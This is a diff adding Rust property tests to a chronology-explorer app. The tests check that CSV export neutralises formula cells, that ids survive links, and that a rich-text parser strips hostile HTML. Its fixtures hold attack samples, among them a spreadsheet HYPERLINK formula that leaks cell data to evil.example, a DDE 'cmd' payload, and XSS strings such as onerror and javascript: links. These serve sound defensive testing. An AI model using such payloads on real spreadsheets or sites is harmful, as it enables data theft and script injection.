@@ -1,17 +1,24 @@
 #![cfg(not(target_arch = "wasm32"))]
 //! Properties of the import and of the URL state over random input: nothing panics, and an
-//! import that succeeds always gives a chronology that keeps every rule.
+//! import that succeeds always gives a chronology that keeps every rule. Also: our CSV export
+//! re-imports to the same events whatever their text (formula-like cells included), every id
+//! an import accepts survives a link, and rich text parses hostile HTML into its allow-list.
 //!
 //! `FUZZ_CASES` sets the number of cases per property (256 by default, so that `cargo test`
 //! stays quick); `scripts/fuzz.sh` runs many more in release mode.
 
 use japan_nato_explorer::core::dataset::export::{to_csv, to_json, CSV_COLUMNS};
 use japan_nato_explorer::core::dataset::validate::validate;
+use japan_nato_explorer::core::dataset::Chronology;
 use japan_nato_explorer::core::dataset::EMBEDDED_JSON;
 use japan_nato_explorer::core::import::{import, ImportFailure, Imported, MAX_IMPORT_BYTES};
-use japan_nato_explorer::core::url_state;
+use japan_nato_explorer::core::query::Filter;
+use japan_nato_explorer::core::rich_text::{Node, RichText};
+use japan_nato_explorer::core::text::{id_problem, is_invisible, without_controls, MAX_ID_CHARS};
+use japan_nato_explorer::core::url_state::{self, ViewState};
 use proptest::prelude::*;
 use serde_json::{Map, Number, Value};
+use std::collections::{BTreeSet, HashMap};
 use std::sync::OnceLock;
 
 /// The number of cases per property: `FUZZ_CASES`, or 256.
@@ -646,5 +653,335 @@ proptest! {
         // What a parsed view writes back parses to the same view.
         let again = url_state::parse(&url_state::to_query(&view)).0;
         prop_assert_eq!(again, view);
+    }
+}
+
+// ---- CSV round trip with formula-like cells -------------------------------------------------
+
+/// Text that a spreadsheet would take for a formula, or that looks like our own escaping.
+fn formula_text() -> impl Strategy<Value = String> {
+    prop_oneof![
+        2 => ("['= +@\t\r-]{0,3}", "\\PC{0,12}").prop_map(|(a, b)| a + &b),
+        1 => prop::sample::select(vec![
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+            "-5",
+            "+1",
+            "@SUM(A1)",
+            "'",
+            "''=1",
+            "'-5",
+            "\t=1",
+            "\r=1",
+            "a;=1",
+            "x\r\ny",
+            "\u{1}=1",
+            "-0500",
+        ])
+        .prop_map(String::from),
+        1 => prop::collection::vec(any::<char>(), 0..10).prop_map(|c| c.into_iter().collect()),
+    ]
+}
+
+/// An event id that an import accepts, often one that starts like a formula: made so, rather
+/// than filtered (most random texts have a control character or a space at an end).
+fn csv_id() -> impl Strategy<Value = String> {
+    formula_text().prop_map(|text| {
+        let kept: String = text
+            .chars()
+            .filter(|c| !c.is_control() && !is_invisible(*c))
+            .take(MAX_ID_CHARS)
+            .collect();
+        let id = kept.trim();
+        if id.is_empty() {
+            "x".to_string()
+        } else {
+            id.to_string()
+        }
+    })
+}
+
+/// The cells of a CSV text (RFC 4180, commas), for checking what a spreadsheet would see.
+fn csv_cells(text: &str) -> Vec<String> {
+    let mut cells = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') | (false, '\n') => cells.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {}
+            (false, c) => cell.push(c),
+        }
+    }
+    cells.push(cell);
+    cells
+}
+
+/// A few events of the built-in chronology with the given texts (ids made unique, titles not
+/// blank).
+fn events_with(texts: Vec<(String, String, String, String, String, Vec<String>)>) -> Chronology {
+    let mut data = japan_nato_explorer::core::dataset::embedded().unwrap_or_else(|e| panic!("{e}"));
+    data.events.truncate(texts.len());
+    let mut ids = BTreeSet::new();
+    for (i, (e, (id, title, summary, evidence, note, actors))) in
+        data.events.iter_mut().zip(texts).enumerate()
+    {
+        let mut id = id;
+        while ids.contains(&id) {
+            id = format!("{id}{i}");
+        }
+        e.id = id;
+        ids.insert(e.id.clone());
+        e.title = if cleaned(&title).trim().is_empty() {
+            title + "t"
+        } else {
+            title
+        };
+        e.summary = summary;
+        e.evidence = evidence;
+        e.note = Some(note);
+        e.actors = actors;
+    }
+    data
+}
+
+/// What the import makes of a text: control characters removed, line ends made `\n`.
+fn cleaned(text: &str) -> String {
+    without_controls(text).0.into_owned()
+}
+
+// ---- ids through links -----------------------------------------------------------------------
+
+/// Any id a file might give: arbitrary Unicode, the link's own punctuation, controls, spaces.
+fn file_id() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "\\PC{1,16}",
+        "[ ,+%&=#?/;:@'\"<>a-z0-9-]{1,10}",
+        prop::collection::vec(any::<char>(), 1..8).prop_map(|c| c.into_iter().collect()),
+        prop::sample::select(vec!["event 1", "a/b?c#d", "a,b", " x", "x\u{200b}", "100%"])
+            .prop_map(String::from),
+    ]
+}
+
+/// A chronology file in our JSON with the given ids for its phases, domains, third parties and
+/// events (each event in every facet value).
+fn json_with_ids(
+    phases: &BTreeSet<String>,
+    domains: &BTreeSet<String>,
+    parties: &BTreeSet<String>,
+    events: &BTreeSet<String>,
+) -> String {
+    let phase = phases.iter().next().cloned().unwrap_or_default();
+    serde_json::json!({
+        "title": "T",
+        "source": {"title": "S", "author": "A"},
+        "phases": phases.iter().map(|id| serde_json::json!({
+            "id": id, "label": "P", "start": "1900", "end": "2100", "summary": "", "evidence": ""
+        })).collect::<Vec<_>>(),
+        "domains": domains.iter().map(|id| serde_json::json!({"id": id, "label": "D"})).collect::<Vec<_>>(),
+        "third_parties": parties.iter().map(|id| serde_json::json!({"id": id, "label": "T"})).collect::<Vec<_>>(),
+        "events": events.iter().map(|id| serde_json::json!({
+            "id": id, "start": "2000", "title": "E", "summary": "",
+            "phase": phase, "domains": domains, "third_parties": parties
+        })).collect::<Vec<_>>(),
+    })
+    .to_string()
+}
+
+// ---- rich text -------------------------------------------------------------------------------
+
+/// Tag soup: allowed and hostile tags, attributes, comments, references, stray brackets. No
+/// reference to `<` (so that a `<script` in the plain text could only come from the parser).
+fn tag_soup() -> impl Strategy<Value = String> {
+    let token = prop_oneof![
+        3 => "[a-zA-Z ]{1,6}",
+        1 => "\\PC{1,4}",
+        2 => prop::sample::select(vec![
+            "<p>", "</p>", "<br>", "<br/>", "</br>", "<b>", "</b>", "<strong>", "</strong>",
+            "<i>", "</i>", "<em>", "</em>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>",
+            "<a href=\"https://www.nato.int/x?a=1&amp;b=2\">", "<a href='http://x.org'>",
+            "<a href=javascript:alert(1)>", "<a href=\"&#106;avascript:x\">", "<a>", "</a>",
+            "<script>", "</script>", "<SCRIPT>", "<script src=x>", "<style>", "</style>",
+            "<img src=x onerror=alert(1)>", "<iframe>", "</iframe>", "<svg>", "</svg>",
+            "<div>", "</div>", "<span onclick=x>", "</span>", "<h1>", "<table><tr><td>",
+            "<!--", "-->", "<![CDATA[", "]]>", "<!doctype html>", "<?x?>", "<", ">", "</",
+            "&amp;", "&gt;", "&quot;", "&#39;", "&#x27;", "&nbsp;", "&#0;", "&#1;", "&bogus;",
+            "&", "\"", "'", "=", "\n", "\t", "<p onclick=\"alert(1)\">", "<b title='a>b'>",
+            "<a href=\"https://x.org\" onmouseover=alert(1)>",
+        ])
+        .prop_map(String::from),
+    ];
+    prop::collection::vec(token, 0..40).prop_map(|t| t.concat())
+}
+
+/// Every link of a tree.
+fn hrefs(nodes: &[Node], out: &mut Vec<String>) {
+    for n in nodes {
+        if let Node::Element(e) = n {
+            if let japan_nato_explorer::core::rich_text::Kind::Link { href } = &e.kind {
+                out.push(href.clone());
+            }
+            hrefs(&e.children, out);
+        }
+    }
+}
+
+/// How deep a tree nests.
+fn depth(nodes: &[Node]) -> usize {
+    nodes
+        .iter()
+        .map(|n| match n {
+            Node::Element(e) => 1 + depth(&e.children),
+            Node::Text(_) => 0,
+        })
+        .max()
+        .unwrap_or(0)
+}
+
+/// The checks every parsed text must pass.
+fn check_rich_text(markup: &str) -> Result<RichText, TestCaseError> {
+    let tree = RichText::parse(markup);
+    let html = tree.to_html();
+    prop_assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
+    // Every tag is one of the allow-list's, with no attribute but a link's href.
+    for tag in html.split('<').skip(1) {
+        let tag = tag.split('>').next().unwrap_or_default();
+        let name = tag.trim_start_matches('/');
+        prop_assert!(
+            ["p", "br", "b", "i", "ul", "ol", "li", "a"].contains(&name)
+                || (tag.starts_with("a href=\"")
+                    && tag.ends_with('"')
+                    && tag.matches('"').count() == 2),
+            "the tag <{}> in {}",
+            tag,
+            html
+        );
+    }
+    prop_assert!(depth(&tree.nodes) <= japan_nato_explorer::core::rich_text::MAX_DEPTH);
+    let mut links = Vec::new();
+    hrefs(&tree.nodes, &mut links);
+    for href in links {
+        prop_assert!(
+            japan_nato_explorer::core::dataset::validate::is_web_url(&href),
+            "{href}"
+        );
+    }
+    // The allow-list's HTML is what the tree is.
+    prop_assert_eq!(&RichText::parse(&html), &tree, "{}", html);
+    let _ = tree.plain_text();
+    Ok(tree)
+}
+
+proptest! {
+    #![proptest_config(config())]
+
+    #[test]
+    fn our_csv_export_re_imports_to_the_same_events_whatever_their_text(
+        texts in prop::collection::vec(
+            (
+                csv_id(),
+                formula_text(),
+                formula_text(),
+                formula_text(),
+                formula_text(),
+                prop::collection::vec("[=+@'a-z-][a-z =+'-]{0,6}[a-z]", 0..3),
+            ),
+            1..6,
+        ),
+    ) {
+        let data = events_with(texts);
+        let csv = to_csv(&data);
+        // No cell starts like a formula once its spaces are set aside.
+        for cell in csv_cells(&csv) {
+            prop_assert!(
+                !cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{:?}", cell
+            );
+        }
+        let back = match import(csv.as_bytes(), "x.csv", false) {
+            Ok(i) => i.chronology,
+            Err(f) => return Err(TestCaseError::fail(format!("refused: {:?}\n{csv}", f.problems))),
+        };
+        let by_id: HashMap<&str, _> = back.events.iter().map(|e| (e.id.as_str(), e)).collect();
+        prop_assert_eq!(back.events.len(), data.events.len());
+        for e in &data.events {
+            let b = by_id.get(e.id.as_str());
+            prop_assert!(b.is_some(), "{:?} is missing", e.id);
+            let b = b.copied().unwrap_or_else(|| unreachable!());
+            prop_assert_eq!(&b.title, &cleaned(&e.title));
+            prop_assert_eq!(&b.summary, &cleaned(&e.summary));
+            prop_assert_eq!(&b.evidence, &cleaned(&e.evidence));
+            let note = e.note.as_deref().map(cleaned).filter(|n| !n.is_empty());
+            prop_assert_eq!(&b.note, &note);
+            prop_assert_eq!(&b.actors, &e.actors);
+            prop_assert_eq!((b.start, b.end), (e.start, e.end));
+        }
+    }
+
+    #[test]
+    fn every_id_an_import_accepts_survives_a_link(
+        phases in prop::collection::btree_set(file_id(), 0..3),
+        domains in prop::collection::btree_set(file_id(), 0..4),
+        parties in prop::collection::btree_set(file_id(), 0..3),
+        events in prop::collection::btree_set(file_id(), 1..4),
+        text in "\\PC{0,20}",
+        dim: bool,
+        window in prop::option::of((-100_000.0f64..100_000.0, 1.0f64..20_000.0)),
+    ) {
+        let file = json_with_ids(&phases, &domains, &parties, &events);
+        let imported = import(file.as_bytes(), "ids.json", false);
+        check(&imported)?;
+        let Ok(imported) = imported else {
+            // Refused: then some id is one a link cannot carry, or two ids are the same.
+            let all: Vec<&String> = phases.iter().chain(&domains).chain(&parties).chain(&events).collect();
+            prop_assert!(
+                all.iter().any(|id| id_problem(id).is_some()),
+                "refused although every id is fine"
+            );
+            return Ok(());
+        };
+        let c = &imported.chronology;
+        for e in &c.events {
+            let view = ViewState {
+                filter: Filter {
+                    phases: c.phases.iter().map(|p| p.id.clone()).collect(),
+                    domains: c.domains.iter().map(|d| d.id.clone()).collect(),
+                    third_parties: c.third_parties.iter().map(|t| t.id.clone()).collect(),
+                    text: text.clone(),
+                    ..Filter::default()
+                },
+                dim,
+                window: window.map(|(start, span)| url_state::round_window(start, start + span)),
+                selected: Some(e.id.clone()),
+                data: Some(url_state::KEPT_DATA.to_string()),
+                ..ViewState::default()
+            };
+            let (back, notices) = url_state::parse(&url_state::to_query(&view));
+            prop_assert!(notices.is_empty(), "{:?}", notices);
+            prop_assert_eq!(back, view);
+        }
+    }
+
+    #[test]
+    fn rich_text_parses_tag_soup_into_its_allow_list(markup in tag_soup()) {
+        let tree = check_rich_text(&markup)?;
+        prop_assert!(!tree.plain_text().to_ascii_lowercase().contains("<script"));
+    }
+
+    #[test]
+    fn rich_text_parses_any_text(markup in prop_oneof![
+        "\\PC{0,200}",
+        prop::collection::vec(any::<char>(), 0..100).prop_map(|c| c.into_iter().collect::<String>()),
+        "[<>/!?&#;=\"' a-z0-9-]{0,120}",
+    ]) {
+        check_rich_text(&markup)?;
     }
 }
